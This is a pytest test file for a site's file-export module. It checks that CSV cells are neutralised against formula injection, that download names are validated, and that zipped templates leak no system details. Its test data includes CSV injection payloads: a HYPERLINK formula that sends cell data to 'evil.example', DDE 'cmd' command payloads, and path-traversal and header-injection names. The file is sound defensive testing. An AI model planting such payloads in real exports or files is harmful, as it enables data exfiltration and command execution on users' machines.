"""Files that leave: harmless cells, names without people, nothing about who made them with what."""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest

from egenkraft.site.outside import files

SITE = Path(files.__file__).parents[1]
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"here")',
    "=cmd|' /C calc'!A0",
    "+46 70 123 45 67",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\0=1+1",
]


def read(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("start", STARTS)
def test_whatever_begins_a_formula_gets_an_apostrophe(start):
    assert files.cell(f"{start}1") == f"'{start}1"


@pytest.mark.parametrize("text", ATTACKS)
def test_no_attack_begins_a_cell_of_the_file(text):
    ((first, second),) = read(files.table([[text, "efter"]]))
    assert first.startswith("'")
    assert second == "efter"
    assert not first.lstrip("'").startswith(("\u200b", "\u202e", "\0"))


@pytest.mark.parametrize(
    ("value", "text"), [(-3, "-3"), (2.5, "2.5"), (True, "True"), (None, ""), ("Åsa", "Åsa")]
)
def test_numbers_and_names_stay_as_they_are(value, text):
    assert files.cell(value) == text


def test_a_cell_cannot_break_out_of_its_row():
    rows = read(files.table([['a";"b', "c\r\n=1+1;d"], ["nästa", "rad"]]))
    assert rows == [['a";"b', "c\r\n=1+1;d"], ["nästa", "rad"]]


@pytest.mark.parametrize(
    "name", ["Amina", "närvaro", "a b", '"; x="', "../x", "a\r\nSet-Cookie: x", "", "a.b"]
)
def test_a_name_that_is_not_ours_is_refused(name):
    with pytest.raises(ValueError, match="no name"):
        files.download(b"", name=name, kind="csv")
    with pytest.raises(ValueError, match="no name"):
        files.download(b"", name="a", kind="exe")


def test_a_download_is_an_attachment_of_its_kind():
    answer = files.json_download({"namn": "Åsa"}, name="egenkraft-svar")
    assert answer.headers["Content-Disposition"] == 'attachment; filename="egenkraft-svar.json"'
    assert answer.headers["Content-Type"] == "application/json; charset=utf-8"


def test_the_empty_sheets_tell_nothing_of_the_machine():
    from egenkraft.site.intake.sample import templates

    packed = templates("sv")
    assert not [
        word for word in (b"/root", b"/home", b"/tmp", b"Python", b"egenkraft.site") if word in packed
    ]
    with zipfile.ZipFile(io.BytesIO(packed)) as file:
        assert file.comment == b""
        assert all("/" not in name and name.endswith(".csv") for name in file.namelist())
        assert not any(info.extra or info.comment for info in file.infolist())


def made_by_hand():
    """Files that answer with a file and do not take it from here."""
    for path in SITE.rglob("*.py"):
        if path == Path(files.__file__):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node, "id", getattr(node, "attr", getattr(node, "value", "")))
            if name in ("FileResponse", "Content-Disposition", "StreamingHttpResponse"):
                yield f"{path.relative_to(SITE)}:{node.lineno}"


def test_every_file_leaves_through_the_one_way():
    found = [place for place in made_by_hand() if not place.startswith("diary/views.py")]
    assert [place.partition(":")[0] for place in found] == ["config/headers.py"]  # once, and it only reads:
    reads = 'response.headers.get("Content-Disposition", "").startswith("attachment")'
    assert reads in (SITE / "config" / "headers.py").read_text(encoding="utf-8")
    assert "FileResponse(" not in (SITE / "diary" / "views.py").read_text(encoding="utf-8")
